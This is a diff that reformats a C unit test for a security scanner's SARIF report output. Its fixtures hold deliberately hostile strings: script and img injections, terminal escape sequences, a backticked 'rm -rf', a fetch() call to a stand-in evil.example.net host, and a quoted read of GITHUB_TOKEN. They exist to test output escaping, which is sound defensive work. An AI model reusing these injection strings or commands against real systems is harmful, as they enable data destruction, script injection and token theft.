@@ -18,7 +18,8 @@
 /* Everything a scanned server controls can hold these. */
 #define HOSTILE_HOST "evil|`x`<script>.example.net"
 #define HOSTILE_FILE "src/a|b`c<script>alert(1)</script>\x1b[2J.js"
-#define HOSTILE_MESSAGE "sends to \x1b]8;;http://x\x07 @everyone | `rm -rf` <img src=x> \xff\xfe end"
+#define HOSTILE_MESSAGE \
+	"sends to \x1b]8;;http://x\x07 @everyone | `rm -rf` <img src=x> \xff\xfe end"
 #define HOSTILE_SNIPPET "fetch(`https://evil.example.net/${'```'}`) // \x1b[31m\xc3\x28"
 
 static struct evidence static_evidence(const char *file, unsigned line, const char *api,
@@ -88,12 +89,15 @@ static void add_findings(struct report *r)
 	f->snippet = xstrdup(HOSTILE_SNIPPET);
 	f->fingerprint = xstrdup("0123456789abcdef");
 	f->phase = xstrdup("startup");
-	assert_int_equal(finding_add_chain(f, "%s", "src/a.js:3: const t = process.env.GITHUB_TOKEN"), 0);
-	f = report_add_finding(r, "dynamic-code-execution", NULL, "test/fixture.js", 2, "eval of a literal");
+	assert_int_equal(finding_add_chain(f, "%s", "src/a.js:3: const t = process.env.GITHUB_TOKEN"),
+			 0);
+	f = report_add_finding(r, "dynamic-code-execution", NULL, "test/fixture.js", 2,
+			       "eval of a literal");
 	assert_non_null(f);
 	f->suppressed = xstrdup("fixture | reviewed <b>by</b> `sec` team");
 	f->fingerprint = xstrdup("fedcba9876543210");
-	f = report_add_finding(r, "user-directed-egress", NULL, "src/index.js", 40, "URL from tool argument");
+	f = report_add_finding(r, "user-directed-egress", NULL, "src/index.js", 40,
+			       "URL from tool argument");
 	assert_non_null(f);
 	/* A finding with neither file nor line: SARIF must still give GitHub a location. */
 	f = report_add_finding(r, "exfil-prone-destination", HOSTILE_HOST, NULL, 0, "paste service");
@@ -344,7 +348,8 @@ static void test_sarif(void **state)
 	assert_string_equal(
 		get(get(cJSON_GetArrayItem(rules_json, 0), "properties"), "security-severity")->valuestring,
 		"8.0");
-	assert_true(cJSON_IsTrue(get(cJSON_GetArrayItem(get(run, "invocations"), 0), "executionSuccessful")));
+	assert_true(cJSON_IsTrue(
+		get(cJSON_GetArrayItem(get(run, "invocations"), 0), "executionSuccessful")));
 	assert_int_equal(cJSON_GetArraySize(get(run, "results")), 5);
 	cJSON_ArrayForEach(res, get(run, "results"))
 		check_sarif_result(res, rules_json);
